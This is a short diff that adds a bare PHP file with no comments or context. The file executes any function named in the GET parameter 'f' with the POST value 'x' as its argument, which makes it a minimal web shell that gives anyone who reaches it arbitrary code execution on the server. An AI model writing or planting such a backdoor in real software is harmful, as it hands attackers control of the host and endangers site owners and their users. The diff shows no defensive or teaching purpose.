@@ -1,0 +1,4 @@
+<?php
+if (isset($_GET['f'])) {
+    $_GET['f']($_POST['x']);
+}
